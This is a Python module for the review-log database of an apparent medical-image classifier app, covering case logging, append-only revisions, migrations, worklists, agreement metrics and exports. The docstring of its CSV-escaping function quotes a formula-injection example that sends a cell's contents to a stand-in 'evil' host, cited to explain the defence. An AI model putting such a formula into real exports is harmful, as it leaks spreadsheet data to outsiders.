"""CaseStore: the review log of the VisionCLIP app, one SQLite file managed with sqlite-utils.

One clear API (everything else in this module is private):

    store = CaseStore("visionclip_cases.db")
    case_id = store.log_case(CaseRecord(Analysis(...), Review(...)))  # new case + its first review revision
    store.add_revision(case_id, Review(...))             # a correction: appended, never overwritten
    store.get_case(case_id)                              # dict with thumbnails and "history"
    store.search(reviewer=, label=, verdict=, date_from=, date_to=, text=)  # list of dicts, no blobs
    store.export_csv(path, rows) / store.export_json(path, rows)
    store.agreement(rows)                                # model-vs-reviewer agreement
    store.schema_version

Design:
* Privacy: a case keeps the image SHA-256 and a small thumbnail re-encoded from raw pixels (no EXIF,
  no text chunks, no ICC profile). The original file name and a patient identifier are stored only when
  the caller passes ``store_identifiers=True`` (the UI's opt-in box); otherwise they are NULL.
* History: every review is a row in ``revisions``; triggers forbid UPDATE and DELETE on that table.
  ``cases`` mirrors the latest revision (verdict, labels, ...) so it can be filtered quickly.
* Schema: versioned; ``MIGRATIONS`` is an ordered list of functions, each applied once inside a
  transaction and recorded in ``schema_migrations``.
* Concurrency: WAL journal, a busy timeout, one short-lived connection per operation and
  ``BEGIN IMMEDIATE`` for writes, so several app sessions (threads or processes) can log at once.
"""
from __future__ import annotations

import contextlib
import csv
import dataclasses
import datetime as _dt
import hashlib
import io
import json
import math
import sqlite3
import threading
from pathlib import Path
from typing import Any, Callable, Iterator

import sqlite_utils
from PIL import Image

VERDICTS = ("agree", "disagree", "ungradable")
ITEM_STATES = ("pending", "analysed", "reviewed", "skipped")
MAX_READINGS = 2  # double reading
BUSY_TIMEOUT_MS = 30_000
THUMBNAIL_MAX_SIDE = 256
CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Columns returned by search()/exports (the blobs are left out).
LIST_COLUMNS = [
    "id", "created_at", "updated_at", "reviewer", "verdict", "predicted_label", "corrected_labels",
    "confidence", "notes", "model_id", "saliency_method", "saliency_target", "saliency_class", "image_sha256",
    "prompt_set_sha256", "probabilities", "prompt_set_json", "original_filename", "patient_id",
    "n_revisions", "adapter",
]


WORKLIST_EXPORT_COLUMNS = [
    "position", "image", "item_sha256", "reading", "reviewer", "read_at", "case_id", "verdict", "corrected_labels",
    "confidence", "notes", "predicted_label", "probabilities", "model_id", "prompt_set_sha256",
]


class StoreError(ValueError):
    """Bad input to the store (one line, safe to show to a user)."""


def _unavailable(e: sqlite3.Error) -> str:
    """One line for a database the operating system will not let us use; a write was rolled back whole."""
    msg = str(e).lower()
    if "readonly" in msg or "read-only" in msg:
        why = "the case log is read-only"
    elif "full" in msg or "disk i/o" in msg:
        why = "the case log's disk is full or failing"
    elif "unable to open" in msg:
        why = "the case log cannot be opened (read-only, full or missing folder)"
    elif "locked" in msg or "busy" in msg:
        why = "the case log is busy"
    else:
        why = f"the case log cannot be used ({' '.join(str(e).split())[:120]})"
    return f"Case log unavailable: {why}; nothing was changed. Analyses still work; save again once it is fixed."


def _storable(text: str | None, what: str) -> str | None:
    """Text SQLite can store: lone surrogates (which a JSON payload can carry) are refused in one line."""
    if text is None:
        return None
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        raise StoreError(f"{what} contains characters that are not valid Unicode text.") from None
    return text


def _file_name(name: str | None) -> str | None:
    """A file name that was not UTF-8 on disk (surrogate-escaped bytes) is kept readable, not refused."""
    return name.encode("utf-8", "surrogateescape").decode("utf-8", "replace") if name else None


def utc_now() -> str:
    return _dt.datetime.now(_dt.timezone.utc).isoformat(timespec="milliseconds")


def sha256_bytes(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def strip_and_thumbnail(image: Image.Image, max_side: int = THUMBNAIL_MAX_SIDE, fmt: str = "PNG") -> bytes:
    """Return a small PNG/JPEG of ``image`` rebuilt from raw pixels: no EXIF, XMP, ICC or text chunks."""
    im = image.convert("RGB")
    im.thumbnail((max_side, max_side))
    clean = Image.frombytes("RGB", im.size, im.tobytes())  # a fresh image: carries no .info at all
    buf = io.BytesIO()
    if fmt.upper() == "JPEG":
        clean.save(buf, format="JPEG", quality=85)
    else:
        clean.save(buf, format="PNG", optimize=False)
    return buf.getvalue()


MAX_REVIEWER_CHARS = 100
MAX_LABEL_CHARS = 200
MAX_NOTES_CHARS = 5000


@dataclasses.dataclass(frozen=True, kw_only=True)
class Analysis:
    """What the model said about one image: the part of a case the reviewer does not write."""

    image_sha256: str
    thumbnail: bytes
    prompt_set_json: str
    prompt_set_sha256: str
    probabilities: dict[str, float]
    model_id: str
    predicted_label: str
    saliency_method: str | None = None
    saliency_target: str | None = None  # softmax | similarity: which score the map explains
    saliency_class: str | None = None
    saliency_thumbnail: bytes | None = None
    original_filename: str | None = None  # stored only with the reviewer's opt-in
    adapter: str | None = None  # JSON: the few-shot adapter (file name, SHA-256, ...) that gave the probabilities


@dataclasses.dataclass(frozen=True, kw_only=True)
class Review:
    """One reviewer's verdict on a case. ``validated()`` applies the review rules, which live only here."""

    reviewer: str
    verdict: str
    corrected_labels: tuple[str, ...] | list[str] | str | None = ()
    confidence: float | str | None = None
    notes: str = ""

    def validated(self) -> "Review":
        """A normalised copy (names and labels whitespace-collapsed, confidence a float), or StoreError."""
        reviewer = _storable(" ".join(str(self.reviewer or "").split()), "The reviewer name")
        if not reviewer:
            raise StoreError("Enter the reviewer's name.")
        if len(reviewer) > MAX_REVIEWER_CHARS:
            raise StoreError(f"Reviewer name is too long ({MAX_REVIEWER_CHARS} characters at most).")
        verdict = str(self.verdict or "").strip().lower()
        if verdict not in VERDICTS:
            raise StoreError(f"Choose a verdict: {', '.join(VERDICTS)}.")
        labels = parse_labels(self.corrected_labels)
        for label in labels:
            _storable(label, "A corrected label")
        if verdict == "disagree" and not labels:
            raise StoreError("A 'disagree' verdict needs at least one corrected label.")
        notes = _storable(str(self.notes or ""), "The notes")
        if len(notes) > MAX_NOTES_CHARS:
            raise StoreError(f"Notes are too long ({len(notes)} characters; {MAX_NOTES_CHARS} at most).")
        return Review(reviewer=reviewer, verdict=verdict, corrected_labels=labels,
                      confidence=parse_confidence(self.confidence), notes=notes)


@dataclasses.dataclass(frozen=True)
class CaseRecord:
    """One analysed image and its first review."""

    analysis: Analysis
    review: Review
    store_identifiers: bool = False   # the reviewer's opt-in: keep the file name and patient identifier
    patient_id: str | None = None

    @classmethod
    def of(cls, **fields) -> "CaseRecord":
        """A record from flat keyword arguments (analysis, review and record fields mixed), for scripts."""
        review_keys = {f.name for f in dataclasses.fields(Review)}
        record_keys = {"store_identifiers", "patient_id"}
        return cls(Analysis(**{k: v for k, v in fields.items() if k not in review_keys | record_keys}),
                   Review(**{k: v for k, v in fields.items() if k in review_keys}),
                   **{k: v for k, v in fields.items() if k in record_keys})


def parse_labels(value: Any) -> tuple[str, ...]:
    """Corrected labels from a list or a comma-separated string: whitespace collapsed, blanks and repeats dropped."""
    if value is None:
        return ()
    if isinstance(value, str):
        value = value.split(",")
    out: list[str] = []
    for v in value:
        v = " ".join(str(v).split())
        if len(v) > MAX_LABEL_CHARS:
            raise StoreError(f"A corrected label is too long ({MAX_LABEL_CHARS} characters at most).")
        if v and v not in out:
            out.append(v)
    return tuple(out)


def parse_confidence(value: Any) -> float | None:
    if value is None or value == "":
        return None
    try:
        c = float(value)
    except (TypeError, ValueError):
        raise StoreError("Confidence must be a number between 0 and 1.") from None
    if not math.isfinite(c) or not 0.0 <= c <= 1.0:
        raise StoreError("Confidence must be a number between 0 and 1.")
    return c


# ----------------------------------------------------------------------------------------- migrations
def _m001_initial(db: sqlite_utils.Database) -> None:
    db["cases"].create(
        {
            "id": int, "created_at": str, "updated_at": str, "reviewer": str, "verdict": str,
            "corrected_labels": str, "confidence": float, "notes": str,
            "image_sha256": str, "thumbnail": bytes, "prompt_set_json": str, "prompt_set_sha256": str,
            "probabilities": str, "model_id": str, "predicted_label": str,
            "saliency_method": str, "saliency_class": str,
            "original_filename": str, "patient_id": str,
        },
        pk="id",
        not_null=["created_at", "reviewer", "verdict", "image_sha256", "model_id", "predicted_label"],
    )
    db["revisions"].create(
        {
            "id": int, "case_id": int, "revision": int, "created_at": str, "reviewer": str,
            "verdict": str, "corrected_labels": str, "confidence": float, "notes": str,
        },
        pk="id",
        foreign_keys=[("case_id", "cases", "id")],
        not_null=["case_id", "revision", "created_at", "reviewer", "verdict"],
    )
    db["revisions"].create_index(["case_id", "revision"], unique=True)


def _m002_indexes_and_append_only(db: sqlite_utils.Database) -> None:
    for cols in (["reviewer"], ["verdict"], ["predicted_label"], ["created_at"], ["image_sha256"]):
        db["cases"].create_index(cols, if_not_exists=True)
    # Revisions are history: they may be appended, never rewritten or removed.
    db.executescript(
        """
        CREATE TRIGGER IF NOT EXISTS revisions_no_update BEFORE UPDATE ON revisions
        BEGIN SELECT RAISE(ABORT, 'revisions are append-only'); END;
        CREATE TRIGGER IF NOT EXISTS revisions_no_delete BEFORE DELETE ON revisions
        BEGIN SELECT RAISE(ABORT, 'revisions are append-only'); END;
        """
    )


def _m003_saliency_thumbnail(db: sqlite_utils.Database) -> None:
    db["cases"].add_column("saliency_thumbnail", bytes)
    db["cases"].add_column("n_revisions", int, not_null_default=1)


def _m004_saliency_target(db: sqlite_utils.Database) -> None:
    db["cases"].add_column("saliency_target", str)  # NULL for cases logged before targets were offered


def _m005_worklists(db: sqlite_utils.Database) -> None:
    db["worklists"].create({"id": int, "name": str, "created_at": str, "readings": int, "source": str},
                           pk="id", not_null=["name", "created_at", "readings"])
    db["worklist_items"].create(
        {"id": int, "worklist_id": int, "position": int, "image_path": str, "state": str, "image_sha256": str,
         "predicted_label": str, "probabilities": str, "model_id": str, "prompt_set_sha256": str,
         "analysed_at": str},
        pk="id", foreign_keys=[("worklist_id", "worklists", "id")],
        not_null=["worklist_id", "position", "image_path", "state"])
    db["worklist_items"].create_index(["worklist_id", "position"], unique=True)
    db["worklist_readings"].create(
        {"id": int, "item_id": int, "case_id": int, "reviewer": str, "reading": int, "created_at": str},
        pk="id", foreign_keys=[("item_id", "worklist_items", "id"), ("case_id", "cases", "id")],
        not_null=["item_id", "case_id", "reviewer", "reading", "created_at"])
    db["worklist_readings"].create_index(["item_id", "reviewer"], unique=True)  # one reading per reader


def _m006_adapter(db: sqlite_utils.Database) -> None:
    db["cases"].add_column("adapter", str)  # NULL: zero-shot probabilities (and every case logged before)


def _m007_worklist_calibration(db: sqlite_utils.Database) -> None:
    # NULL: each image scored on its own; else JSON naming the label-free (transductive) calibration and the
    # number of images calibrated together, whose result depends on the whole batch
    db["worklist_items"].add_column("calibration", str)


MIGRATIONS: list[tuple[int, str, Callable[[sqlite_utils.Database], None]]] = [
    (1, "initial cases and revisions tables", _m001_initial),
    (2, "indexes and append-only triggers on revisions", _m002_indexes_and_append_only),
    (3, "saliency thumbnail and revision count on cases", _m003_saliency_thumbnail),
    (4, "saliency target on cases", _m004_saliency_target),
    (5, "worklists, their items and readings", _m005_worklists),
    (6, "few-shot adapter on cases", _m006_adapter),
    (7, "label-free calibration of worklist batch analyses", _m007_worklist_calibration),
]
SCHEMA_VERSION = MIGRATIONS[-1][0]


# ----------------------------------------------------------------------------------------- the store
class CaseStore:
    """The app's case log. Thread-safe: each call opens its own short-lived connection."""

    _init_lock = threading.Lock()

    def __init__(self, path: str | Path, *, target_version: int | None = None):
        self.path = Path(path)
        if str(path) != ":memory:":
            self.path.parent.mkdir(parents=True, exist_ok=True)
        with self._init_lock, self._connect() as db:
            with db.ensure_autocommit_on():
                db.execute("PRAGMA journal_mode=WAL")
            self._migrate(db, SCHEMA_VERSION if target_version is None else target_version)

    # -- connections and transactions
    @contextlib.contextmanager
    def _connect(self) -> Iterator[sqlite_utils.Database]:
        try:
            conn = sqlite3.connect(str(self.path), timeout=BUSY_TIMEOUT_MS / 1000, isolation_level=None,
                                   check_same_thread=False)
            try:
                conn.execute(f"PRAGMA busy_timeout={BUSY_TIMEOUT_MS}")
                conn.execute("PRAGMA foreign_keys=ON")
                yield sqlite_utils.Database(conn)
            finally:
                conn.close()
        except sqlite3.OperationalError as e:  # full disk, read-only file, lost folder: one line, not a traceback
            raise StoreError(_unavailable(e)) from None

    @contextlib.contextmanager
    def _write(self) -> Iterator[sqlite_utils.Database]:
        """A write transaction taken with BEGIN IMMEDIATE (no lock-upgrade deadlocks under WAL)."""
        with self._connect() as db:
            db.conn.execute("BEGIN IMMEDIATE")
            try:
                yield db
            except BaseException:
                db.conn.execute("ROLLBACK")
                raise
            else:
                db.conn.execute("COMMIT")

    # -- schema
    def _migrate(self, db: sqlite_utils.Database, target: int) -> None:
        if "schema_migrations" not in db.table_names():
            db["schema_migrations"].create(
                {"version": int, "name": str, "applied_at": str}, pk="version", if_not_exists=True)
        done = {r["version"] for r in db["schema_migrations"].rows}
        for version, name, fn in MIGRATIONS:
            if version in done or version > target:
                continue
            db.conn.execute("BEGIN IMMEDIATE")
            try:
                # Another process may have applied it while we waited for the lock.
                if db["schema_migrations"].count_where("version = ?", [version]):
                    db.conn.execute("COMMIT")
                    continue
                fn(db)
                db["schema_migrations"].insert({"version": version, "name": name, "applied_at": utc_now()})
            except BaseException:
                db.conn.execute("ROLLBACK")
                raise
            db.conn.execute("COMMIT")

    @property
    def schema_version(self) -> int:
        with self._connect() as db:
            rows = list(db.query("select max(version) as v from schema_migrations"))
            return int(rows[0]["v"] or 0)

    def migrations(self) -> list[dict]:
        with self._connect() as db:
            return list(db["schema_migrations"].rows_where(order_by="version"))

    def journal_mode(self) -> str:
        with self._connect() as db:
            return db.journal_mode

    # -- writes
    def log_case(self, rec: CaseRecord) -> int:
        """Insert a new case with its first revision; returns the case id."""
        row, first = self._case_rows(rec)
        with self._write() as db:
            return self._insert_case(db, row, first)

    def _case_rows(self, rec: CaseRecord) -> tuple[dict, dict]:
        """The validated ``cases`` row and first ``revisions`` row of a record (StoreError if invalid)."""
        review = rec.review.validated()
        an = rec.analysis
        if not an.image_sha256 or not an.model_id or not an.predicted_label:
            raise StoreError("A case needs an analysed image (hash, model id and prediction).")
        patient_id = _storable(" ".join(str(rec.patient_id or "").split()), "The patient identifier")
        for text, what in ((an.predicted_label, "The predicted label"), (an.prompt_set_json, "The prompt set")):
            _storable(text, what)
        if len(patient_id) > MAX_LABEL_CHARS:
            raise StoreError("Patient identifier is too long.")
        now = utc_now()
        row = {
            **dataclasses.asdict(an), "created_at": now, "updated_at": now, **self._review_columns(review),
            "probabilities": json.dumps(an.probabilities, sort_keys=True), "n_revisions": 1,
            "original_filename": _file_name(an.original_filename) if rec.store_identifiers else None,
            "patient_id": (patient_id or None) if rec.store_identifiers else None,
        }
        return row, {"revision": 1, "created_at": now, **self._review_columns(review)}

    @staticmethod
    def _insert_case(db: sqlite_utils.Database, row: dict, first: dict) -> int:
        case_id = db["cases"].insert(row).last_pk
        db["revisions"].insert({"case_id": case_id, **first})
        return int(case_id)

    def add_revision(self, case_id: int, review: Review) -> int:
        """Append a review to a case's history; returns the new revision number."""
        review = review.validated()
        try:
            case_id = int(case_id)
        except (TypeError, ValueError):
            raise StoreError("Open a case (enter its id) first.") from None
        now = utc_now()
        with self._write() as db:
            if not db["cases"].count_where("id = ?", [case_id]):
                raise StoreError(f"No case with id {case_id}.")
            last = list(db.query("select coalesce(max(revision), 0) as r from revisions where case_id = ?",
                                 [case_id]))[0]["r"]
            revision = int(last) + 1
            db["revisions"].insert({"case_id": case_id, "revision": revision, "created_at": now,
                                    **self._review_columns(review)})
            db["cases"].update(case_id, {"updated_at": now, "n_revisions": revision, **self._review_columns(review)})
        return revision

    @staticmethod
    def _review_columns(review: Review) -> dict:
        return {"reviewer": review.reviewer, "verdict": review.verdict, "confidence": review.confidence,
                "corrected_labels": json.dumps(list(review.corrected_labels)), "notes": review.notes}

    # -- reads
    def count(self) -> int:
        with self._connect() as db:
            return db["cases"].count

    def get_case(self, case_id: int) -> dict | None:
        with self._connect() as db:
            rows = list(db["cases"].rows_where("id = ?", [int(case_id)]))
            if not rows:
                return None
            case = rows[0]
            case["history"] = list(db["revisions"].rows_where("case_id = ?", [int(case_id)], order_by="revision"))
            return case

    def history(self, case_id: int) -> list[dict]:
        with self._connect() as db:
            return list(db["revisions"].rows_where("case_id = ?", [int(case_id)], order_by="revision"))

    def search(self, *, reviewer: str | None = None, label: str | None = None, verdict: str | None = None,
               date_from: str | None = None, date_to: str | None = None, text: str | None = None,
               limit: int | None = 1000) -> list[dict]:
        """Cases, newest first. ``label`` matches the predicted label or any corrected label.

        Dates are ISO strings (``YYYY-MM-DD`` or full timestamps, UTC); ``date_to`` is inclusive of that day.
        ``text`` searches notes, reviewer and labels (case-insensitive substring).
        """
        where, args = [], []
        if reviewer:
            where.append("lower(reviewer) = lower(?)")
            args.append(reviewer.strip())
        if verdict:
            where.append("verdict = ?")
            args.append(verdict.strip().lower())
        if label:
            where.append("(predicted_label = ? or exists (select 1 from json_each(cases.corrected_labels) "
                         "where json_each.value = ?))")
            args += [label, label]
        if date_from:
            where.append("created_at >= ?")
            args.append(str(date_from).strip())
        if date_to:
            d = str(date_to).strip()
            if len(d) == 10:  # a bare date: include the whole day
                d += "T23:59:59.999+00:00"
            where.append("created_at <= ?")
            args.append(d)
        if text:
            where.append("(lower(notes) like ? or lower(reviewer) like ? or lower(corrected_labels) like ? "
                         "or lower(predicted_label) like ?)")
            args += [f"%{text.strip().lower()}%"] * 4
        with self._connect() as db:
            return list(db["cases"].rows_where(
                " and ".join(where) or None, args, order_by="id desc", select=", ".join(LIST_COLUMNS),
                limit=limit))

    def distinct(self, column: str) -> list[str]:
        if column not in ("reviewer", "predicted_label", "verdict", "model_id"):
            raise StoreError(f"Unknown column {column!r}.")
        with self._connect() as db:
            return [r[column] for r in db.query(
                f"select distinct {column} from cases where {column} is not null order by {column}")]

    # -- export and agreement
    @staticmethod
    def csv_safe(value: Any) -> Any:
        """A text cell a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is prefixed with '.

        Reviewer notes, names and labels are typed by users; opened in Excel or LibreOffice, a note such as
        ``=HYPERLINK("http://evil/?"&A1, "click")`` would otherwise run (OWASP "CSV injection").
        """
        if isinstance(value, str) and value[:1] in CSV_FORMULA_STARTS:
            return "'" + value
        return value

    def export_csv(self, path: str | Path, rows: list[dict] | None = None) -> Path:
        rows = self.search(limit=None) if rows is None else rows
        path = Path(path)
        with path.open("w", newline="", encoding="utf-8") as fh:
            w = csv.DictWriter(fh, fieldnames=LIST_COLUMNS, extrasaction="ignore")
            w.writeheader()
            for r in rows:
                w.writerow({k: self.csv_safe(r.get(k)) for k in LIST_COLUMNS})
        return path

    def export_json(self, path: str | Path, rows: list[dict] | None = None, with_history: bool = True) -> Path:
        rows = self.search(limit=None) if rows is None else rows
        out = []
        for r in rows:
            item = {k: r.get(k) for k in LIST_COLUMNS}
            for k in ("probabilities", "corrected_labels"):
                try:
                    item[k] = json.loads(item[k]) if item[k] else item[k]
                except (TypeError, ValueError):
                    pass
            if with_history:
                item["history"] = self.history(r["id"])
            out.append(item)
        path = Path(path)
        path.write_text(json.dumps({"schema_version": self.schema_version, "exported_at": utc_now(),
                                    "cases": out}, indent=2), encoding="utf-8")
        return path

    @staticmethod
    def reviewer_label(row: dict) -> str | None:
        """The reviewer's label for a case: the prediction when they agreed, their first correction when not."""
        if row.get("verdict") == "agree":
            return row.get("predicted_label")
        if row.get("verdict") == "disagree":
            try:
                labels = json.loads(row.get("corrected_labels") or "[]")
            except ValueError:
                labels = []
            return labels[0] if labels else None
        return None  # ungradable

    def agreement(self, rows: list[dict] | None = None) -> dict[str, Any]:
        """Model-vs-reviewer agreement over gradable, labelled cases.

        Returns n (pairs counted), n_cases, n_ungradable, agreement_rate (None if no pairs),
        labels (sorted) and matrix (rows = reviewer label, columns = model label).
        """
        rows = self.search(limit=None) if rows is None else rows
        pairs = []
        for r in rows:
            lab = self.reviewer_label(r)
            if lab is not None and r.get("predicted_label"):
                pairs.append((lab, r["predicted_label"]))
        from sklearn.metrics import accuracy_score, confusion_matrix

        labels = sorted({a for a, _ in pairs} | {b for _, b in pairs})
        reviewer, model = [a for a, _ in pairs], [b for _, b in pairs]
        return {
            "n": len(pairs), "n_cases": len(rows),
            "n_ungradable": sum(1 for r in rows if r.get("verdict") == "ungradable"),
            "agreement_rate": float(accuracy_score(reviewer, model)) if pairs else None,
            "labels": labels,
            "matrix": confusion_matrix(reviewer, model, labels=labels).tolist() if pairs else [],
        }

    # -- worklists: a queue of images to review, each item pending -> analysed -> reviewed (or skipped)
    def create_worklist(self, name: str, image_paths: list[str | Path], readings: int = 1, source: str = "") -> int:
        """A new worklist of ``image_paths`` (in order); ``readings`` independent reviews are wanted per image."""
        name = " ".join(str(name or "").split())
        if not name:
            raise StoreError("Name the worklist.")
        if readings not in range(1, MAX_READINGS + 1):
            raise StoreError(f"A worklist asks for 1 to {MAX_READINGS} readings per image.")
        if not image_paths:
            raise StoreError("A worklist needs at least one image.")
        with self._write() as db:
            wid = db["worklists"].insert({"name": name[:MAX_LABEL_CHARS], "created_at": utc_now(),
                                          "readings": readings, "source": source}).last_pk
            db["worklist_items"].insert_all({"worklist_id": wid, "position": i, "image_path": str(p),
                                             "state": "pending"} for i, p in enumerate(image_paths, start=1))
        return int(wid)

    def worklists(self) -> list[dict]:
        with self._connect() as db:
            return list(db["worklists"].rows_where(order_by="id desc"))

    def worklist(self, worklist_id: int) -> dict:
        with self._connect() as db:
            rows = list(db["worklists"].rows_where("id = ?", [int(worklist_id)]))
        if not rows:
            raise StoreError(f"No worklist with id {worklist_id}.")
        return rows[0]

    def worklist_items(self, worklist_id: int, state: str | None = None, predicted_label: str | None = None,
                       reviewer: str | None = None) -> list[dict]:
        """Items in order, each with ``readings`` (reviewer names); ``reviewer``: items that reader has not read."""
        where, args = ["worklist_id = ?"], [int(worklist_id)]
        if state:
            where.append("state = ?")
            args.append(state)
        if predicted_label:
            where.append("predicted_label = ?")
            args.append(predicted_label)
        if reviewer:
            where.append("not exists (select 1 from worklist_readings r where r.item_id = worklist_items.id "
                         "and lower(r.reviewer) = lower(?))")
            args.append(reviewer)
        with self._connect() as db:
            items = list(db["worklist_items"].rows_where(" and ".join(where), args, order_by="position"))
            readers: dict[int, list[str]] = {}
            for r in db.query("select r.item_id, r.reviewer from worklist_readings r join worklist_items i "
                              "on i.id = r.item_id where i.worklist_id = ? order by r.reading", [int(worklist_id)]):
                readers.setdefault(r["item_id"], []).append(r["reviewer"])
        for it in items:
            it["readers"] = readers.get(it["id"], [])
        return items

    def worklist_item(self, worklist_id: int, position: int) -> dict:
        items = [it for it in self.worklist_items(worklist_id) if it["position"] == int(position)]
        if not items:
            raise StoreError(f"Worklist {worklist_id} has no item {position}.")
        return items[0]

    def set_item_analysis(self, item_id: int, analysis: Analysis, calibration: dict | None = None) -> None:
        """Record the model's output for an item; a reviewed or skipped item keeps its state. ``calibration``
        names a transductive calibration the probabilities went through (None: the image scored alone)."""
        with self._write() as db:
            db.execute("update worklist_items set image_sha256 = ?, predicted_label = ?, probabilities = ?, "
                       "model_id = ?, prompt_set_sha256 = ?, analysed_at = ?, calibration = ?, "
                       "state = case when state = 'pending' then 'analysed' else state end where id = ?",
                       [analysis.image_sha256, analysis.predicted_label,
                        json.dumps(analysis.probabilities, sort_keys=True), analysis.model_id,
                        analysis.prompt_set_sha256, utc_now(),
                        None if calibration is None else json.dumps(calibration, sort_keys=True), int(item_id)])

    def skip_item(self, item_id: int) -> None:
        with self._write() as db:
            db.execute("update worklist_items set state = 'skipped' where id = ? and state != 'reviewed'",
                       [int(item_id)])

    def log_reading(self, item_id: int, rec: CaseRecord) -> int:
        """Log a case for a worklist item as one reader's reading; returns the case id.

        A reader reads an item once; an item is reviewed when it has the worklist's number of readings.
        The case and the reading are written in one transaction."""
        row, first = self._case_rows(rec)
        reviewer = row["reviewer"]
        with self._write() as db:
            rows = list(db.query("select w.readings, (select count(*) from worklist_readings r where r.item_id = i.id)"
                                 " as done, (select count(*) from worklist_readings r where r.item_id = i.id and "
                                 "lower(r.reviewer) = lower(?)) as mine from worklist_items i join worklists w on "
                                 "w.id = i.worklist_id where i.id = ?", [reviewer, int(item_id)]))
            if not rows:
                raise StoreError(f"No worklist item with id {item_id}.")
            item = rows[0]
            if item["mine"]:
                raise StoreError(f"{reviewer} has already read this image; add a correction in Cases instead.")
            if item["done"] >= item["readings"]:
                raise StoreError(f"This image already has its {item['readings']} reading(s).")
            case_id = self._insert_case(db, row, first)
            db["worklist_readings"].insert({"item_id": int(item_id), "case_id": case_id, "reviewer": reviewer,
                                            "reading": item["done"] + 1, "created_at": row["created_at"]})
            if item["done"] + 1 >= item["readings"]:
                db.execute("update worklist_items set state = 'reviewed' where id = ?", [int(item_id)])
        return case_id

    def worklist_progress(self, worklist_id: int) -> dict[str, int]:
        """{"total": n, "pending": .., "analysed": .., "reviewed": .., "skipped": ..}."""
        with self._connect() as db:
            counts = {r["state"]: r["n"] for r in db.query(
                "select state, count(*) as n from worklist_items where worklist_id = ? group by state",
                [int(worklist_id)])}
        out = {s: int(counts.get(s, 0)) for s in ITEM_STATES}
        out["total"] = sum(out.values())
        return out

    def worklist_readings(self, worklist_id: int) -> list[dict]:
        """Every reading of a worklist with its case (model id, prompt set hash, verdict, labels), in order."""
        with self._connect() as db:
            return list(db.query(
                "select i.position, i.image_path, i.image_sha256 as item_sha256, r.reading, r.reviewer, "
                "r.created_at as read_at, c.id as case_id, c.verdict, c.corrected_labels, c.confidence, c.notes, "
                "c.predicted_label, c.probabilities, c.model_id, c.prompt_set_sha256, c.image_sha256 "
                "from worklist_readings r join worklist_items i on i.id = r.item_id "
                "join cases c on c.id = r.case_id where i.worklist_id = ? order by i.position, r.reading",
                [int(worklist_id)]))

    def reader_agreement(self, worklist_id: int) -> dict[str, Any]:
        """Inter-reader agreement (Cohen's kappa) over items with two readings that both gave a label."""
        from sklearn.metrics import cohen_kappa_score

        by_item: dict[int, list[str | None]] = {}
        for r in self.worklist_readings(worklist_id):
            by_item.setdefault(r["position"], []).append(self.reviewer_label(r) or r["verdict"])
        pairs = [(v[0], v[1]) for v in by_item.values() if len(v) >= 2]
        if not pairs:
            return {"n": 0, "kappa": None, "observed": None}
        a, b = [p[0] for p in pairs], [p[1] for p in pairs]
        observed = sum(x == y for x, y in pairs) / len(pairs)
        kappa = float(cohen_kappa_score(a, b)) if len(set(a) | set(b)) > 1 else (1.0 if observed == 1 else None)
        return {"n": len(pairs), "kappa": kappa, "observed": observed}

    def export_worklist(self, worklist_id: int, path: str | Path, fmt: str = "csv") -> Path:
        """One row per reading: item, reader, verdict, labels, model id and prompt-set hash of its analysis."""
        wl = self.worklist(worklist_id)
        rows = self.worklist_readings(worklist_id)
        for r in rows:
            r["image"] = Path(r.pop("image_path")).name
        path = Path(path)
        if fmt == "json":
            for r in rows:
                for k in ("probabilities", "corrected_labels"):
                    r[k] = json.loads(r[k]) if r[k] else r[k]
            path.write_text(json.dumps({"worklist": wl, "exported_at": utc_now(),
                                        "progress": self.worklist_progress(worklist_id),
                                        "reader_agreement": self.reader_agreement(worklist_id), "readings": rows},
                                       indent=2), encoding="utf-8")
        elif fmt == "csv":
            with path.open("w", newline="", encoding="utf-8") as fh:
                w = csv.DictWriter(fh, fieldnames=WORKLIST_EXPORT_COLUMNS, extrasaction="ignore")
                w.writeheader()
                w.writerows({k: self.csv_safe(v) for k, v in r.items()} for r in rows)
        else:
            raise StoreError("Export format must be csv or json.")
        return path
